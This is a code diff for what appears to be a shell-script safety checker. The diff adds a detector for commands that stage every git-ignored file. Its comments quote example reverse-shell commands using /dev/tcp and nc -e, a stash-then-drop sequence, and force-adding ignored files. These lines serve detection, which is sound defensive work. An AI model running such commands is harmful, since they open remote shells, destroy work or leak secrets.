@@ -11,6 +11,7 @@ import { checkForkBomb } from './families/system-forks.ts';
 import { fedArgumentScripts, PipeReading, shellSubstitutions, substitutionFeeds, unknownNamesRemoval } from './fed-input.ts';
 import { findExecShells } from './find-exec-shells.ts';
 import { globProgramReadings } from './glob-programs.ts';
+import { checkIgnoredAdded } from './ignored-files.ts';
 import { downloadRun, evaluatedDownload, lineDownload, powershellCode, unreadableCode } from './powershell.ts';
 import { powershellRemovalLines } from './powershell-removal.ts';
 import type { ProjectRun } from './project-scripts.ts';
@@ -168,6 +169,9 @@ export function walkScript(src: string, w: Walk, depth: number): void {
   // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
   const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
   if (remote) w.findings.push(remote);
+  // `git add -f .`, `rm .gitignore && git add -A`: every ignored file staged (ignored-files.ts)
+  const ignored = checkIgnoredAdded(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
+  if (ignored) w.findings.push(ignored);
   // `git stash -u && git stash drop`: the work stashed, then dropped (families/git-stash-discard.ts)
   const stashed = w.policy.families.gitHistory === 'off' ? null : checkStashDiscard(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
   if (stashed) w.findings.push(familyFinding('gitHistory', stashed, w.policy));
